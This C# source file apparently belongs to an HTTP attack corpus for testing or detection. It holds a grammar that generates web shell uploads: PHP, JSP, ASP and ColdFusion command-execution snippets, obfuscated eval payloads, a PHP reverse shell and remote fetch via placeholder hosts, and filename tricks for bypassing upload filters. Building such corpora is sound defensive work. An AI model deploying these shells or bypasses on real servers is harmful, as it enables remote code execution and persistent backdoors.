namespace Weir.Http.Corpus.Attacks.Other;

/// <summary>Programs in upload: PHP, JSP, ASP, their file names, and calls of what was uploaded before.</summary>
/// <remarks>OWASP WSTG-BUSL-08 and 09, CAPEC-650, CAPEC-242, CWE-434.</remarks>
internal static class WebShells
{
    public const string Text = """"
        §webshell
        5× «phpcode»
        2× «phpbody»
        3× «jspcode»
        3× «aspcode»
        3× «uploadbody»
        2× «shellcall»
        GIF89a«;¦␤¦»«phpcode»
        2× «shellfile»
        <%eval request("«letter»")%>
        AddType application/x-httpd-php .«jpg¦«rand»¦png»
        «php_value ¦»auto_«prepend¦append»_file«=¦ »«.htaccess¦«unixfile»¦«rand».gif»
        #!/«bin/sh¦usr/bin/perl¦usr/bin/env python»␤«print "Content-type: text/html\n\n";¦»«shellcmd»
        «phpcode→b64»
        §phpopen
        5× <?php␠
        2× <?=
        <?
        <?PHP␠
        <script language="php">
        §phpclose
        3× ?>
        2× ␠?>
        «¦</script>»
        §phpcode
        «phpopen»«phpbody»«phpclose»
        §inputvar
        4× $_GET['«cmdname»']
        3× $_POST['«cmdname»']
        3× $_REQUEST['«cmdname»']
        2× $_«GET¦POST¦REQUEST»[«cmdname»]
        $_«GET¦POST¦REQUEST¦COOKIE»["«cmdname»"]
        $_SERVER['HTTP_«rand→upper»']
        $_«GET¦POST»[«#0-9»]
        ${"_GET"}['«letter»']
        $_HEADERS['«word»']
        file_get_contents('php://input')
        getallheaders()['«letter»']
        base64_decode($_«POST¦GET¦COOKIE»['«cmdname»'])
        §cmdname
        «cmd¦c¦x¦pass¦0¦a¦command¦exec¦ant¦z0¦code¦«letter»¦«rand»»
        §phpsys
        4× system
        2× «eval¦exec¦shell_exec¦passthru¦assert¦popen¦proc_open¦pcntl_exec»
        §phpbody
        5× «@¦»«phpsys»(«inputvar»)«;¦»
        3× «@¦»eval(«inputvar»);
        2× echo «shell_exec¦passthru¦system¦exec¦`»(«inputvar»);
        3× «phpsys»('«shellcmd»');
        2× phpinfo();
        echo «md5('«rand»')¦'«rand»'¦«#1-999»*«#1-999»¦php_uname()¦getcwd()»;«¦unlink(__FILE__);»
        file_put_contents('«rand».php',«base64_decode('«phpopen→b64»')¦'<?php eval($_POST["«letter»"]);?>'¦«inputvar»»);
        assert(«inputvar»);
        $«letter»=«inputvar»;«@¦»«eval¦system¦assert»($«letter»);
        $«$f:letter»='«phpsys→concatphp»';$«$f»(«inputvar»);
        «preg_replace('/.*/e',«inputvar»,'')¦create_function('',«inputvar»)();¦call_user_func('«phpsys»',«inputvar»)¦array_map('«phpsys»',array(«inputvar»))¦usort($_GET,'«phpsys»')¦include(«inputvar»)¦(«inputvar»)(«inputvar»)¦`«inputvar»`¦array_filter([«inputvar»],'«phpsys»')¦register_shutdown_function('«phpsys»',«inputvar»)»;
        «eval¦assert»(«base64_decode¦gzinflate(base64_decode¦str_rot13¦gzuncompress(base64_decode¦strrev»("«rand→b64»«rand→b64»"))«)¦»;
        if(isset(«inputvar»)){«echo "<pre>";»«phpsys»(«inputvar»);«die;¦»}
        move_uploaded_file($_FILES['«word»']['tmp_name'],«$_FILES['«word»']['name']¦'«rand».php'»);
        copy("«evilurl»","«rand».php");
        fputs(fopen('«rand».php','w'),'«phpopen»eval($_POST[«letter»])?>');
        @error_reporting(0);@set_time_limit(0);eval(«inputvar»);
        $sock=fsockopen("«ip»",«port»);exec("/bin/sh -i <&3 >&3 2>&3");
        §jspcode
        3× <%«¦ »Runtime.getRuntime().exec(request.getParameter("«cmdname»"))«;¦»«¦ »%>
        <%@ page import="java.«util.*,java.io.*¦io.*»"%><% «Process p=Runtime.getRuntime().exec(request.getParameter("«cmdname»"));¦if(request.getParameter("«cmdname»")!=null){Runtime.getRuntime().exec(request.getParameter("«cmdname»"));}» %>
        <%if("«rand»".equals(request.getParameter("pwd"))){java.io.InputStream in=Runtime.getRuntime().exec(request.getParameter("«cmdname»")).getInputStream();%>
        <% out.println("«rand»");«¦new java.io.File(application.getRealPath(request.getServletPath())).delete();» %>
        ${Runtime.getRuntime().exec(param.«cmdname»)}
        <%!class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte[] b){return super.defineClass(b,0,b.length);}}%>
        <jsp:«scriptlet¦expression»>Runtime.getRuntime().exec(request.getParameter("«cmdname»"))</jsp:scriptlet>
        <% new ProcessBuilder(request.getParameter("«cmdname»")).start(); %>
        <%new java.io.FileOutputStream(request.getParameter("«letter»")).write(request.getParameter("«letter»").getBytes());%>
        §aspcode
        3× <%«@ Page Language="Jscript"%><%¦»eval(Request«.Item»["«cmdname»"]«,"unsafe"¦»)«;¦»%>
        2× <%«eval¦execute¦executeglobal» request("«cmdname»")%>
        <% Response.Write(CreateObject("WScript.Shell").Exec(«Request.QueryString("«cmdname»")¦"«shellcmd»"»).StdOut.ReadAll()) %>
        <%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe","/c "+Request["«cmdname»"]); %>
        <script runat="server" language="«C#¦JScript¦VBScript»">«void Page_Load(object s,EventArgs e){System.Diagnostics.Process.Start("cmd.exe","/c «shellcmd»");}¦function Page_Load(){eval(Request["«cmdname»"],"unsafe");}»</script>
        <%@ WebHandler Language="C#" Class="«word»"%> using System.Web; using System.Diagnostics;
        <%Set o=Server.CreateObject("«WScript.Shell¦ADODB.Stream¦Scripting.FileSystemObject»")«:o.Run "cmd /c «shellcmd»"¦»%>
        <cfexecute name="«cmd.exe¦/bin/sh»" arguments="-c «shellcmd»" timeout="«#1-10»"></cfexecute>
        §scriptext
        «php¦php5¦phtml¦pht¦phar¦php7¦jsp¦jspx¦asp¦aspx¦ashx¦asa¦cer¦cgi¦pl¦shtml¦cfm¦war¦exe¦sh¦pHp¦inc¦htaccess»
        §uploadbody
        3× Content-Disposition: form-data; name="«word»"; filename="«upname»"␍␤Content-Type: «image/jpeg¦image/png¦application/octet-stream¦text/plain¦application/x-php»␍␤␍␤««phpcode»¦«jspcode»¦«aspcode»¦GIF89a;«phpcode»»
        2× «upname»
        filename="«upname»"
        filename="«upname»"; filename*=utf-8''«rand».«scriptext»
        --«hexdigit*12-20»␍␤Content-Disposition: form-data; name="«word»"; filename="«upname»"␍␤␍␤«phpcode»␍␤
        §upname
        3× ««word»¦shell¦cmd¦x¦«rand»».«scriptext»
        2× ««word»¦shell¦«rand»».«jpg¦png¦gif¦txt».«scriptext»
        2× ««word»¦shell¦«rand»».«scriptext»«%00¦;¦::$DATA¦.¦%20¦/¦%0a¦.xxxjpg¦#¦%0d%0a¦...¦\¦%2500»«¦.jpg¦.png¦.gif»
        «word».«scriptext».«jpg¦png¦gif¦«rand»»
        «../¦..\»«word».«scriptext»
        «.htaccess¦.user.ini¦web.config¦shell.«scriptext»»
        "><img src=x onerror=alert(1)>.«jpg¦svg»
        «word»';«shellcmd»;'.«jpg¦png»
        «word».jpg;.asp
        §shellcall
        4× /«shelldir»«shellfile2»?«cmdname»=«shellcmd→plus»
        2× «cmdname»=«phpbody»
        2× «shellfile2»?«cmdname»=«shellcmd→url»
        «cmdname»=@eval(base64_decode($_POST[«letter»«#0-9»]));&«letter»«#0-9»=«phpbody→b64»
        «cmdname»=«@ini_set("display_errors","0");@set_time_limit(0);echo("->|");¦die(@md5(«rand»));¦Response.Write("«rand»");Response.End¦print(md5(«rand»))»
        §shelldir
        3×
        «uploads¦images¦wp-content/uploads¦upload¦files¦tmp¦media¦avatars¦wp-includes¦wp-content/plugins/«rand»¦wp-content/themes/«rand»¦.well-known¦cache»/
        §shellfile2
        3× «shell¦cmd¦c99¦r57¦wso¦b374k¦alfa¦«webshell»¦backdoor¦up¦uploader¦mini¦simple-backdoor¦adminer¦phpspy¦weevely¦x¦ant¦1¦404¦ws¦bypass¦indoxploit¦priv8¦marijuana¦chopper¦caidao¦tunnel¦JspSpy¦aspxspy¦cmdasp¦behinder».«php¦php¦php¦jsp¦asp¦aspx»
        «rand».«php¦jsp¦aspx»
        §shellfile
        /«shelldir»«shellfile2»
        """";
}
